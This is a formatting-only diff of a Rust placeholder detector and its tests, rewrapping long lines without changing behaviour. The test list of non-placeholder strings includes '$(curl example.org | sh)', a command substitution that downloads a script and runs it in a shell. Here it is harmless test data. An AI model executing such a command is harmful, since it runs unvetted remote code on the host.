@@ -94,12 +94,17 @@ fn is_template(value: &str) -> bool {
                 rest.find('}').map(|close| close + 1)
             }
             '%' => {
-                let flags = rest.bytes().skip(1).take_while(|byte| byte.is_ascii_digit() || matches!(byte, b'.' | b'-' | b'l'));
+                let flags = rest
+                    .bytes()
+                    .skip(1)
+                    .take_while(|byte| byte.is_ascii_digit() || matches!(byte, b'.' | b'-' | b'l'));
                 let end = 1 + flags.count();
                 filled = true;
                 rest.as_bytes()
                     .get(end)
-                    .filter(|kind| matches!(kind, b's' | b'd' | b'i' | b'r' | b'v' | b'x' | b'u' | b'f' | b'@' | b'q'))
+                    .filter(|kind| {
+                        matches!(kind, b's' | b'd' | b'i' | b'r' | b'v' | b'x' | b'u' | b'f' | b'@' | b'q')
+                    })
                     .map(|_| end + 1)
             }
             // Colours of a terminal.
@@ -161,7 +166,18 @@ mod tests {
         ] {
             assert!(is_placeholder(value), "{value}");
         }
-        for value in ["Marie", "hunter22!", "100%sure", "a{1}b", "{x", "$(curl example.org | sh)", "EMAIL", "FOO_1", "Max", "x12"] {
+        for value in [
+            "Marie",
+            "hunter22!",
+            "100%sure",
+            "a{1}b",
+            "{x",
+            "$(curl example.org | sh)",
+            "EMAIL",
+            "FOO_1",
+            "Max",
+            "x12",
+        ] {
             assert!(!is_placeholder(value), "{value}");
         }
     }
